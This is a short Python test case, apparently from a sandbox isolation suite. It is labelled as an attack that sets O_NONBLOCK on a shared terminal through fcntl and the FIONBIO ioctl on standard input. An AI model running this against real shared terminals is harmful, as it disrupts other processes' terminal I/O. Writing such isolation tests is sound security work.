# SPDX-License-Identifier: Apache-2.0
# attack: O_NONBLOCK on the shared terminal
# class: tty
# wins: tty
# stdin: tty
from kit import *

tried()
sc('fcntl', 0, 4, os.O_NONBLOCK | 2)
sc('ioctl', os.dup(0), 0x5421, ctypes.byref(ctypes.c_int(1)))
